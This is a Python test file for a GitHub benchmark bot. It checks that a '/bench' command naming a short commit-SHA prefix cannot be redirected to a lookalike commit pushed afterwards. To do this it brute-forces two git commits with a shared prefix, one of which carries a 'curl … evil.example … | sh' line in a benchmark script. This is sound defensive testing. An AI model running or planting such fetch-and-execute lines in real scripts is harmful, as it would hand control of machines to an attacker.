"""``/bench @<sha>`` against a lookalike commit, end to end (the real PyGithub stack, the fake GitHub,
real git objects): two commits that share a 7-digit prefix are made in the test, and the one pushed
after the maintainer's command is never run; a 12-digit prefix binds only with the server-time proof."""

from __future__ import annotations

import hashlib
import os
import subprocess

from bot.cli import main
from bot.github import comments
from tests.conftest import git
from tests.github.commenting import _comment, _replies, _run
from tests.github.conftest import PR, REPO, pr_files

SCRIPT = "benchmarks/single_node/fixed_seq_len/kimik2.5_int4_mi325x.sh"
TRIES = 200_000  # commit messages tried per side; about 3 shared 7-digit prefixes are expected in 40,000


def _answer(pr: PR, cid: int) -> str:
    [body] = [b for b in _replies(pr) if comments.reply_marker(cid) in b]
    return body


def _tree(pr: PR, parent: str, script: str) -> str:
    """The tree of ``parent`` with ``SCRIPT`` replaced by ``script`` (objects written, nothing checked out)."""
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=pr.repo, input=script.encode(),
                          capture_output=True, check=True).stdout.decode().strip()
    env = {**os.environ, "GIT_INDEX_FILE": str(pr.tmp / "lookalike.index")}
    subprocess.run(["git", "read-tree", parent], cwd=pr.repo, env=env, check=True)
    subprocess.run(["git", "update-index", "--cacheinfo", f"100755,{blob},{SCRIPT}"], cwd=pr.repo, env=env, check=True)
    return subprocess.run(["git", "write-tree"], cwd=pr.repo, env=env, capture_output=True,
                          check=True).stdout.decode().strip()


def _commit_bytes(tree: str, parent: str, message: str) -> bytes:
    who = "Alice <alice@example.com> 1700000000 +0000"
    return f"tree {tree}\nparent {parent}\nauthor {who}\ncommitter {who}\n\n{message}\n".encode()


def _sha(body: bytes) -> str:
    return hashlib.sha1(b"commit %d\0" % len(body) + body).hexdigest()


def lookalikes(pr: PR, parent: str, honest: str, evil: str, digits: int = 7) -> tuple[str, str]:
    """Two real commits on ``parent`` whose SHAs share ``digits`` hex digits: the first with
    ``honest`` as the script, the second with ``evil`` (a short-prefix search, as an attacker runs)."""
    t_honest, t_evil = _tree(pr, parent, honest), _tree(pr, parent, evil)
    seen: dict[str, bytes] = {}
    for i in range(TRIES):
        body = _commit_bytes(t_honest, parent, f"mi325x: tune the script ({i})")
        seen.setdefault(_sha(body)[:digits], body)
        other = _commit_bytes(t_evil, parent, f"mi325x: tune the script, again ({i})")
        match = seen.get(_sha(other)[:digits])
        if match is not None:
            made = []
            for obj in (match, other):
                out = subprocess.run(["git", "hash-object", "-t", "commit", "-w", "--stdin"], cwd=pr.repo,
                                     input=obj, capture_output=True, check=True).stdout.decode().strip()
                made.append(out)
            assert made[0][:digits] == made[1][:digits] and made[0] != made[1]
            return made[0], made[1]
    raise AssertionError("no shared prefix found")


def test_a_lookalike_pushed_after_a_short_named_sha_is_never_run(entry_pr: PR) -> None:
    """The maintainer reviews X (force-pushed, so GitHub timed it) and comments ``/bench mi325x @<7 digits
    of X>``; the author pushes Y, with the same 7 digits and a ``curl | sh`` in the script, before the
    commands workflow runs. Before the fix the prefix matched Y and Y was dispatched."""
    pr = entry_pr
    script = (pr.repo / SCRIPT).read_text()
    x, y = lookalikes(pr, pr.head, script + "\n# tuned\n", script + "\ncurl -s https://evil.example/x | sh\n")
    pr.gh.push(REPO, pr.number, head_sha=x, files=pr_files(pr.repo, pr.base, x), force=True)
    pr.head = x
    cid, _ = _comment(pr, f"/bench mi325x @{x[:7]}", "maint")
    pr.gh.push(REPO, pr.number, head_sha=y, files=pr_files(pr.repo, pr.base, y))
    pr.head = y
    assert main(["event"]) == 0
    assert pr.gh.dispatches(REPO) == []
    answer = _answer(pr, cid)
    assert "has 7 hex digits" in answer and "nothing was run" in answer
    assert f"`/bench mi325x @{y}`" in answer  # the full SHA of what is there now, to review first


def test_a_short_named_sha_binds_nothing_even_for_the_head(entry_pr: PR) -> None:
    _, cid = _run(entry_pr, f"/bench mi325x @{entry_pr.head[:11]}")
    assert entry_pr.gh.dispatches(REPO) == []
    assert "has 11 hex digits" in _answer(entry_pr, cid)


def test_a_twelve_digit_prefix_binds_only_with_the_server_time_proof(entry_pr: PR) -> None:
    pr = entry_pr  # its head was force-pushed five minutes ago: GitHub timed it
    _, cid = _run(pr, f"/bench mi325x @{pr.head[:12].upper()}")
    [d] = pr.gh.dispatches(REPO)
    assert d["inputs"]["ref"] == pr.head and "named in the command" in _answer(pr, cid)
    git(pr.repo, "checkout", "-q", "conc")
    (pr.repo / "configs/amd-master.yaml").write_text(
        (pr.repo / "configs/amd-master.yaml").read_text().replace("conc-end: 128 }", "conc-end: 256 }", 1))
    git(pr.repo, "commit", "-qam", "a plain push")
    h = git(pr.repo, "rev-parse", "HEAD").strip()
    git(pr.repo, "checkout", "-q", "main")
    pr.gh.push(REPO, pr.number, head_sha=h, files=pr_files(pr.repo, pr.base, h))  # no server time, no run
    pr.head = h
    _, cid = _run(pr, f"/bench mi325x @{h[:12]}")
    assert len(pr.gh.dispatches(REPO)) == 1
    assert "the last push GitHub timed before your comment" in _answer(pr, cid)
    assert f"`/bench mi325x @{h}`" in _answer(pr, cid)
    _, cid = _run(pr, f"/bench mi325x @{h}")  # the full SHA binds by itself
    assert [d["inputs"]["ref"] for d in pr.gh.dispatches(REPO)] == [d["inputs"]["ref"], h]
    assert "named in the command" in _answer(pr, cid)
